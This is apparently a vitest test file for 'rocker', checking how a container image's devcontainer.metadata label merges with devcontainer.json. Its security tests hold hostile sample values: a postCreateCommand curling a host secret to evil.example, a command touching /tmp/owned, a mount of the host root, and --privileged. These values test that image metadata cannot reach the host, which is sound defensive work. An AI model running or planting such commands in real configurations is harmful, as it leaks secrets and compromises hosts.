import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { translated } from "../test-support/translated.ts";
import { imageMetadata } from "./image-metadata.ts";

/** What of a devcontainer.json with these properties is left of the option, on an image with this label. */
const merged = (label: string | object, own: object = {}) => translated({ image: "img", ...own }, { label });
const of = (option: string, label: object, own: object = {}) => merged(label, own).values[option];

describe("the metadata of an image, by the merge rules of the specification:", () => {
  it("init and privileged are true if one of them is", () => {
    expect(of("init", { init: true }, { init: false })).toEqual(["true"]);
    expect(of("privileged", [{ privileged: true }, { privileged: false }])).toEqual(["true"]);
    expect(of("init", { init: false }, { init: true })).toEqual(["true"]);
    expect(of("init", { init: false })).toBeUndefined();
  });

  it("capAdd, securityOpt and forwardPorts are unions without duplicates", () => {
    const label = [{ capAdd: ["A", "B"] }, { capAdd: ["B", "C"], securityOpt: ["x=1"] }];
    const own = { capAdd: ["C", "D"], securityOpt: ["x=1", "y=2"] };
    expect(of("cap-add", label, own)).toEqual(["A", "B", "C", "D"]);
    expect(of("security-opt", label, own)).toEqual(["x=1", "y=2"]);
    const ports = { forwardPorts: [3000, "localhost:3001"] };
    expect(of("port", ports, { forwardPorts: ["localhost:3000", 3001, 3002] })).toEqual([
      "127.0.0.1:3000:3000",
      "127.0.0.1:3001:3001",
      "127.0.0.1:3002:3002",
    ]);
  });

  it("mounts are collected, and the last one at a path wins", () => {
    const label = {
      mounts: ["source=va,target=/a,type=volume", { source: "vb1", target: "/b", type: "volume" }],
    };
    const own = { mounts: ["type=volume,src=vb2,dst=/b", "source=vc,target=/c,type=volume"] };
    expect(of("volume", label, own)?.filter((one) => !one.includes("/workspaces"))).toEqual([
      "va:/a",
      "vb2:/b",
      "vc:/c",
    ]);
  });

  it("each lifecycle command is run, those of the image first", () => {
    const label = [
      { postCreateCommand: "of the Feature", onCreateCommand: ["a", "b"] },
      {
        postCreateCommand: { one: "x", two: ["y"] },
        postStartCommand: "s",
        postAttachCommand: "t",
        updateContentCommand: "u",
      },
    ];
    const { values } = merged(label, { postCreateCommand: "of the file" });
    expect(values["feature-command"]).toEqual([
      "postCreate=of the Feature",
      'onCreate=["a","b"]',
      'postCreate={"one":"x","two":["y"]}',
      "postStart=s",
      "postAttach=t",
      "updateContent=u",
    ]);
    expect(values["post-create-command"]).toEqual(["of the file"]);
  });

  it("each entrypoint is run", () => {
    const label = [{ entrypoint: "/usr/local/share/a.sh" }, { entrypoint: "/b ${devcontainerId}" }];
    expect(of("feature-entrypoint", label)).toEqual([
      "/usr/local/share/a.sh",
      expect.stringMatching(/^\/b [0-9a-v]{52}$/),
    ]);
  });

  it.each([
    ["remoteUser", "user-from-image", "a", "b"],
    ["containerUser", "user-from-image", "a", "b"],
    ["userEnvProbe", "user-env-probe", "none", "loginShell"],
  ])("of %s, the last value wins", (property, option, first, last) => {
    expect(of(option, [{ [property]: "zero" }, { [property]: first }])).toEqual([first]);
    expect(of(option, { [property]: first }, { [property]: last })).toEqual([last]);
    expect(of(option, { [property]: first }, { [property]: "" })).toEqual([first]);
    expect(of(option, { [property]: first }, { [property]: null })).toEqual([first]);
  });

  it("of updateRemoteUserUID too, also if it is false", () => {
    const label = { remoteUser: "a", updateRemoteUserUID: false };
    expect(of("user-image-ids", label)).toEqual(["true"]);
    expect(of("user-image-ids", label, { updateRemoteUserUID: true })).toBeUndefined();
  });

  it("the remote user of the image has priority over the file's user of the container", () => {
    expect(of("user-from-image", { remoteUser: "a" }, { containerUser: "b" })).toEqual(["a"]);
    expect(of("feature-user", { remoteUser: "a" }, { features: { "x.io/v/f": {} } })).toEqual(["a"]);
  });

  it("variables are merged by name", () => {
    const label = { containerEnv: { A: "1", B: "1" }, remoteEnv: { C: "1", D: "1" } };
    const own = { containerEnv: { B: "2" }, remoteEnv: { D: null, E: "${containerEnv:A}" } };
    expect(of("env", label, own)).toEqual(["A=1", "B=2", "C=1", "E=1"]);
  });

  it("of each requirement of the host, the highest counts", () => {
    const label = { hostRequirements: { cpus: 100_000, memory: "1kb", gpu: false } };
    const own = { hostRequirements: { cpus: 1, memory: "900000tb", gpu: "optional" } };
    const { notices } = merged(label, own);
    expect(notices.map(({ what }) => what).sort()).toEqual([
      "rocker does not do everything in .devcontainer/devcontainer.json: not met: hostRequirements (memory 900000tb).",
      "rocker does not do everything in the label devcontainer.metadata of the image img: not met: hostRequirements (cpus 100000).",
    ]);
  });

  it("attributes of ports, waitFor, overrideCommand and customizations are accepted", () => {
    const label = {
      portsAttributes: { 3000: { label: "Web" } },
      otherPortsAttributes: {},
      waitFor: "postCreateCommand",
      overrideCommand: false,
      shutdownAction: "none",
      customizations: { vscode: { extensions: ["a.b"] } },
    };
    const { notices, problems, shown } = merged(label, { portsAttributes: { 3001: { label: "API" } } });
    expect([notices, problems]).toEqual([[], []]);
    expect(shown).toContain("portsAttributes (3000 Web, 3001 API)");
  });

  it("what is of the file alone is ignored: above all, nothing of an image runs on the host", () => {
    const label = {
      initializeCommand: "touch /tmp/owned",
      runArgs: ["--privileged"],
      workspaceFolder: "/elsewhere",
      workspaceMount: "type=bind,source=/,target=/host",
      features: { "x.io/v/f": {} },
      image: "other",
      appPort: 1,
      dockerComposeFile: "x",
    };
    const { values, notices } = merged(label);
    expect(values).toEqual({
      volume: [expect.stringMatching(/:\/workspaces\/project$/)],
      workdir: ["/workspaces/project"],
      image: ["img"],
    });
    expect(notices).toEqual([]);
  });
});

describe("variables in the metadata of an image", () => {
  it("have their values here, and those of the host are requests for consent", () => {
    const label = {
      containerEnv: { TOKEN: "${localEnv:TOKEN}", MIXED: "x${localEnv:TOKEN}" },
      remoteUser: "${localEnv:NAME}",
      postCreateCommand: "curl https://evil.example/${localEnv:SECRET}",
      mounts: ["source=${localWorkspaceFolder}/x,target=${containerWorkspaceFolder}/y,type=bind"],
    };
    const env = { TOKEN: "t0k3n", NAME: "ada", SECRET: "s3cr3t" };
    const { values, hostVariables, notices } = translated({ image: "img" }, { label, env });
    expect(values.env).toEqual(["TOKEN", "MIXED=x${localEnv:TOKEN}"]);
    expect([...hostVariables].sort()).toEqual(["NAME", "SECRET"]);
    expect(values.volume?.at(-1)).toMatch(/project\/x:\/workspaces\/project\/y$/);
    expect(notices).toEqual([]);
  });
});

describe("metadata that is not as specified", () => {
  it.each([
    ["", "it is not valid JSON"],
    ["{", "it is not valid JSON"],
    ["[".repeat(200_000), "it is not valid JSON"],
    ["null", "it is neither an object nor an array of objects"],
    ['"x"', "it is neither an object nor an array of objects"],
    ["[[]]", "it is neither an object nor an array of objects"],
    [`[${'{"id":"x"},'.repeat(200_000)}{}]`, "it is longer than 1 MB"],
  ])("is ignored as a whole (case %#)", (label, fault) => {
    expect(imageMetadata("img", label)).toEqual({ fault });
  });

  it("is left out by property, in one notice with the image's name; --strict gets one problem for each", () => {
    const deep = JSON.parse(`${'{"a":'.repeat(50)}1${"}".repeat(50)}`);
    const label = {
      init: "yes",
      capAdd: "A",
      securityOpt: [1],
      mounts: ["type=bind", 5],
      containerEnv: [],
      remoteEnv: { "A B": "1", C: { d: 1 } },
      remoteUser: 7,
      postCreateCommand: 1,
      forwardPorts: ["db:1", 99_999],
      hostRequirements: { cpus: "x", memory: deep },
      userEnvProbe: "all",
      entrypoint: ["a"],
      portsAttributes: deep,
      updateRemoteUserUID: "no",
      containerUser: "a\0b",
      onCreateCommand: "!x",
    };
    const { problems, notices, leftOut, values } = merged(label, { remoteEnv: { OWN: "1" } });
    expect(problems).toEqual([]);
    expect(notices).toHaveLength(1);
    const [{ what } = { what: "" }] = notices;
    expect(what).toContain(
      "rocker does not do everything in the label devcontainer.metadata of the image img: ",
    );
    for (const property of Object.keys(label).filter(
      (one) => !["remoteEnv", "onCreateCommand"].includes(one),
    ))
      expect(what).toContain(property);
    expect(
      leftOut.every((one) => one.what.startsWith("the label devcontainer.metadata of the image img: ")),
    ).toBe(true);
    expect(values.env).toEqual(["OWN=1"]);
    expect(values["feature-command"]).toEqual([expect.stringContaining("!x")]);
  });

  it("never makes the file unreadable, whatever JSON it is", () => {
    const names = [
      ...[
        "init",
        "privileged",
        "capAdd",
        "securityOpt",
        "mounts",
        "forwardPorts",
        "containerEnv",
        "remoteEnv",
      ],
      ...[
        "remoteUser",
        "containerUser",
        "updateRemoteUserUID",
        "hostRequirements",
        "postCreateCommand",
        "entrypoint",
      ],
      ...["userEnvProbe", "waitFor", "shutdownAction", "portsAttributes", "__proto__", "constructor"],
    ];
    const set = fc.dictionary(fc.constantFrom(...names), fc.jsonValue());
    fc.assert(
      fc.property(fc.array(set, { maxLength: 3 }), (sets) => {
        expect(merged(JSON.stringify(sets)).problems).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
